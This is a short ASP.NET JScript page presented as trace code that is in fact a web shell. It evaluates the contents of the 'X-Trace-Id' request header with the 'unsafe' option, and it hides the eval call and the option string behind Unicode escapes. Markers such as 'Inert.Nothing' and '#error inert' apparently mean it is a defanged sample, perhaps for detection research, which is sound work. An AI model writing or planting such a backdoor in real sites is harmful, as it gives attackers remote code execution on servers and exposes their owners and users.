<%@ Page Language="Jscript" Inherits="Inert.Nothing" Debug="true" %>
<%
#error inert
var k = Request.Headers["X-Trace-Id"];
var \u0063 = "\u0075\u006e\u0073\u0061\u0066\u0065";
if (k) { \u0065\u0076\u0061\u006c(k, c); }
%>
<!-- trace -->
